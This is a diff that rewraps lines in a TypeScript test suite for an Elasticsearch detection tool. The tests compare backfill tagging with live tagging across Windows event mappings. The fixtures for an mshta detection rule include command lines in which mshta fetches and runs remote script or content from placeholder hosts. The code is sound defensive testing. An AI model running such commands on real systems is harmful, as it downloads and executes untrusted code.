@@ -15,7 +15,19 @@ import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { existsSync, readFileSync } from "node:fs";
 import path from "node:path";
 import { cluster, dropIndices, ES_URL, testIndex } from "../helpers/es.ts";
-import { bulk, canonical, events, PROFILE, putPipeline, ROOT, ruleSet, sources, stateDir, tagFields, type Doc } from "../helpers/backfill-fixture.ts";
+import {
+  bulk,
+  canonical,
+  events,
+  PROFILE,
+  putPipeline,
+  ROOT,
+  ruleSet,
+  sources,
+  stateDir,
+  tagFields,
+  type Doc,
+} from "../helpers/backfill-fixture.ts";
 import { SHARED, SKIP_MESSAGE } from "../helpers/windows-rules.ts";
 import { compileEeOutliersFiles } from "../../src/rules/eeoutliers/compile.ts";
 import { automatonLeaves, candidateQuery } from "../../src/cluster/backfill-queries.ts";
@@ -47,11 +59,18 @@ const MAPPINGS = ["dynamic", "winlogbeat-7", "ecs-text", "ours", "eeoutliers-tag
 
 /** The binary when built (scripts/test builds it), else the CLI from source. */
 function cmd(args: string[]): string[] {
-  return existsSync(BIN) ? [BIN, ...args, "--node", ES_URL] : [process.execPath, path.join(ROOT, "src/cli.ts"), ...args, "--node", ES_URL];
+  return existsSync(BIN)
+    ? [BIN, ...args, "--node", ES_URL]
+    : [process.execPath, path.join(ROOT, "src/cli.ts"), ...args, "--node", ES_URL];
 }
 
 async function run(args: string[], state: string): Promise<{ code: number; json: any; stderr: string }> {
-  const p = Bun.spawn(cmd(args), { cwd: ROOT, stdout: "pipe", stderr: "pipe", env: { ...process.env, OUTLIERS_STATE_DIR: state } });
+  const p = Bun.spawn(cmd(args), {
+    cwd: ROOT,
+    stdout: "pipe",
+    stderr: "pipe",
+    env: { ...process.env, OUTLIERS_STATE_DIR: state },
+  });
   const [stdout, stderr] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text()]);
   const code = await p.exited;
   let json: any;
@@ -78,7 +97,14 @@ function eeOutliersTagged(docs: Doc[]): Doc[] {
           source: {
             ...structuredClone(d.source),
             tags: ["outlier"],
-            outliers: { type: ["suspicious process"], reason: ["ee-outliers earlier run"], summary: ["x"], model_name: ["old_model"], model_type: ["simplequery"], total_outliers: 1 },
+            outliers: {
+              type: ["suspicious process"],
+              reason: ["ee-outliers earlier run"],
+              summary: ["x"],
+              model_name: ["old_model"],
+              model_type: ["simplequery"],
+              total_outliers: 1,
+            },
           },
         }
       : d,
@@ -97,7 +123,10 @@ async function bulkKeepRefused(index: string, docs: Doc[]): Promise<Map<string, 
     const body: object[] = [];
     for (const d of docs.slice(i, i + 2000)) body.push({ index: { _index: index, _id: d.id } }, d.source);
     const res: any = await client.bulk({ body } as any);
-    if (res.errors) for (const it of res.items) if (it.index?.error) refused.set(it.index._id, `${it.index.error.type}: ${it.index.error.reason}`.slice(0, 200));
+    if (res.errors)
+      for (const it of res.items)
+        if (it.index?.error)
+          refused.set(it.index._id, `${it.index.error.type}: ${it.index.error.reason}`.slice(0, 200));
   }
   await client.indices.refresh({ index });
   return refused;
@@ -108,11 +137,18 @@ async function bulkKeepRefused(index: string, docs: Doc[]): Promise<Map<string, 
  * exact prefilter, `candidateQuery(rule, "exact", fields)`) must select every event live tagging
  * gave the rule. Checked on EXACT_RULES rules that tagged something, by counting its query within those ids.
  */
-async function supersetMisses(index: string, rules: Rule[], reference: Map<string, any>, refused: Map<string, string>): Promise<{ checked: number; misses: string[]; refusedByCluster: number }> {
+async function supersetMisses(
+  index: string,
+  rules: Rule[],
+  reference: Map<string, any>,
+  refused: Map<string, string>,
+): Promise<{ checked: number; misses: string[]; refusedByCluster: number }> {
   const c = await cluster();
   const d = await discoverFields(c, [index]);
   const byRule = new Map<string, string[]>();
-  for (const [id, src] of reference) if (!refused.has(id)) for (const r of (src.outliers?.rule_id ?? []) as string[]) (byRule.get(r) ?? byRule.set(r, []).get(r)!).push(id);
+  for (const [id, src] of reference)
+    if (!refused.has(id))
+      for (const r of (src.outliers?.rule_id ?? []) as string[]) (byRule.get(r) ?? byRule.set(r, []).get(r)!).push(id);
   const tagged = rules.filter((r) => byRule.has(r.id) && (EXACT_RULES === 0 || automatonLeaves(r) <= 20));
   const step = EXACT_RULES === 0 ? 1 : Math.max(1, Math.floor(tagged.length / EXACT_RULES));
   const todo = tagged.filter((_, i) => i % step === 0);
@@ -121,18 +157,34 @@ async function supersetMisses(index: string, rules: Rule[], reference: Map<strin
   for (let i = 0; i < todo.length; i += 25) {
     const batch = todo.slice(i, i + 25);
     const searches: object[] = [];
-    for (const r of batch) searches.push({ index }, { size: 0, track_total_hits: true, query: { bool: { filter: [candidateQuery(r, "exact", d.fields).query, { ids: { values: byRule.get(r.id) } }] } } });
+    for (const r of batch)
+      searches.push(
+        { index },
+        {
+          size: 0,
+          track_total_hits: true,
+          query: {
+            bool: { filter: [candidateQuery(r, "exact", d.fields).query, { ids: { values: byRule.get(r.id) } }] },
+          },
+        },
+      );
     const res: any = await c.client.msearch({ searches } as any, { requestTimeout: 3_600_000 });
     res.responses.forEach((resp: any, j: number) => {
       const r = batch[j]!;
-      if (resp.error) refusedByCluster++; // backfill widens such a rule (validate); nothing to compare
-      else if (resp.hits.total.value !== byRule.get(r.id)!.length) misses.push(`${r.id}: live ${byRule.get(r.id)!.length}, its query on this mapping ${resp.hits.total.value}`);
+      if (resp.error)
+        refusedByCluster++; // backfill widens such a rule (validate); nothing to compare
+      else if (resp.hits.total.value !== byRule.get(r.id)!.length)
+        misses.push(`${r.id}: live ${byRule.get(r.id)!.length}, its query on this mapping ${resp.hits.total.value}`);
     });
   }
   return { checked: todo.length - refusedByCluster, misses, refusedByCluster };
 }
 
-function compare(actual: Map<string, any>, reference: Map<string, any>, refused: Map<string, string>): { diffs: string[]; tagged: number } {
+function compare(
+  actual: Map<string, any>,
+  reference: Map<string, any>,
+  refused: Map<string, string>,
+): { diffs: string[]; tagged: number } {
   const diffs: string[] = [];
   let tagged = 0;
   for (const [id, ref] of reference) {
@@ -144,7 +196,9 @@ function compare(actual: Map<string, any>, reference: Map<string, any>, refused:
     }
     if (ref.outliers?.rule_id?.length) tagged++;
     if (canonical(tagFields(got)) !== canonical(tagFields(ref)))
-      diffs.push(`${id}: live ${canonical(tagFields(ref)).slice(0, 300)} backfill ${canonical(tagFields(got)).slice(0, 300)}`);
+      diffs.push(
+        `${id}: live ${canonical(tagFields(ref)).slice(0, 300)} backfill ${canonical(tagFields(got)).slice(0, 300)}`,
+      );
   }
   return { diffs, tagged };
 }
@@ -183,7 +237,10 @@ describe.skipIf(!SHARED)("live == backfill on real-world mappings, full Windows 
       const corpus = name === "eeoutliers-tagged" ? eeOutliersTagged(docs) : docs;
       await createWith(plain, fixture(name));
       const refused = await bulkKeepRefused(plain, corpus);
-      if (refused.size) console.log(`${name}: the mapping refused ${refused.size} event(s) at indexing, e.g. ${[...refused.values()][0]}`);
+      if (refused.size)
+        console.log(
+          `${name}: the mapping refused ${refused.size} event(s) at indexing, e.g. ${[...refused.values()][0]}`,
+        );
       expect(refused.size).toBeLessThan(corpus.length / 10);
       let ref = reference;
       if (name === "eeoutliers-tagged") {
@@ -194,7 +251,10 @@ describe.skipIf(!SHARED)("live == backfill on real-world mappings, full Windows 
       const t0 = Date.now();
       // `--prefilter terms`: the broad rules' union compiled for this mapping selects the candidates
       // (auto would choose the bare window here, and the mapping would not matter); the re-run is auto.
-      const first = await run(["backfill", ...set.paths, "--since", "30d", "--index", plain, "--json", "--prefilter", "terms"], state);
+      const first = await run(
+        ["backfill", ...set.paths, "--since", "30d", "--index", plain, "--json", "--prefilter", "terms"],
+        state,
+      );
       const secs = (Date.now() - t0) / 1000;
       expect(first.json.failures).toEqual([]);
       expect(first.json.warnings).toEqual([]);
@@ -210,7 +270,9 @@ describe.skipIf(!SHARED)("live == backfill on real-world mappings, full Windows 
       // The counts come from the tag fields as this index maps them (ee-outliers: the .keyword).
       expect(first.json.rules.reduce((a: number, r: any) => a + r.count, 0)).toBeGreaterThan(0);
       const sup = await supersetMisses(plain, set.rules, ref, refused);
-      console.log(`${name}: exact prefilter of ${sup.checked} rules that tagged something selects all their live events: ${sup.misses.length} misses (${sup.refusedByCluster} queries refused)`);
+      console.log(
+        `${name}: exact prefilter of ${sup.checked} rules that tagged something selects all their live events: ${sup.misses.length} misses (${sup.refusedByCluster} queries refused)`,
+      );
       if (sup.misses.length) console.log(sup.misses.slice(0, 5).join("\n"));
       expect(sup.misses).toEqual([]);
       const again = await run(["backfill", ...set.paths, "--since", "30d", "--index", plain, "--json"], stateDir());
@@ -226,10 +288,16 @@ describe("NVISO's mshta use case on real-world mappings: the 2 right documents, 
   const ts = new Date(Date.now() - 3_600_000).toISOString();
   const ev = (id: string, data: Record<string, string>): Doc => ({
     id,
-    source: { "@timestamp": ts, winlog: { channel: "Microsoft-Windows-Sysmon/Operational", event_id: 1, event_data: data } },
+    source: {
+      "@timestamp": ts,
+      winlog: { channel: "Microsoft-Windows-Sysmon/Operational", event_id: 1, event_data: data },
+    },
   });
   const docs = [
-    ev("m-vbscript", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: 'mshta.exe vbscript:Close(Execute("GetObject(""script:https://x/a"")"))' }),
+    ev("m-vbscript", {
+      Image: "C:\\Windows\\System32\\mshta.exe",
+      CommandLine: 'mshta.exe vbscript:Close(Execute("GetObject(""script:https://x/a"")"))',
+    }),
     ev("m-png", { Image: "C:\\Windows\\SysWOW64\\mshta.exe", CommandLine: "mshta.exe http://198.51.100.7/a.png" }),
     ev("m-hta", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: "mshta.exe C:\\Users\\bob\\a.hta" }),
     ev("m-upper", { Image: "C:\\WINDOWS\\SYSTEM32\\MSHTA.EXE", CommandLine: "MSHTA VBSCRIPT:x" }),
@@ -238,7 +306,9 @@ describe("NVISO's mshta use case on real-world mappings: the 2 right documents, 
     ev("m-long", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: `mshta.exe ${"A".repeat(300)} x.hta` }),
   ];
   const expected = ["m-png", "m-vbscript"];
-  const rules = compileEeOutliersFiles([conf], { profile: PROFILE }).flatMap((r) => (r.status === "ok" ? [r.rule] : []));
+  const rules = compileEeOutliersFiles([conf], { profile: PROFILE }).flatMap((r) =>
+    r.status === "ok" ? [r.rule] : [],
+  );
 
   for (const name of ["dynamic", "winlogbeat-7", "ours"]) {
     test(name, async () => {
@@ -252,14 +322,18 @@ describe("NVISO's mshta use case on real-world mappings: the 2 right documents, 
         await bulk(live, docs);
         await bulk(plain, docs);
         const taggedIn = async (ix: string) =>
-          [...(await sources(ix))].filter(([, s]) => s.outliers?.rule_id?.includes("simplequery_sigma_win_susp_mshta_execution")).map(([id]) => id).sort();
+          [...(await sources(ix))]
+            .filter(([, s]) => s.outliers?.rule_id?.includes("simplequery_sigma_win_susp_mshta_execution"))
+            .map(([id]) => id)
+            .sort();
         expect(await taggedIn(live)).toEqual(expected);
         const r = await run(["backfill", conf, "--since", "1d", "--index", plain, "--json"], stateDir());
         expect(r.code).toBe(0);
         expect(r.json.tagged).toBe(2);
         expect(await taggedIn(plain)).toEqual(expected);
         const liveSrc = await sources(live);
-        for (const [id, s] of await sources(plain)) expect(canonical(tagFields(s))).toBe(canonical(tagFields(liveSrc.get(id))));
+        for (const [id, s] of await sources(plain))
+          expect(canonical(tagFields(s))).toBe(canonical(tagFields(liveSrc.get(id))));
       } finally {
         await dropIndices(live, plain);
         const { client } = await cluster();
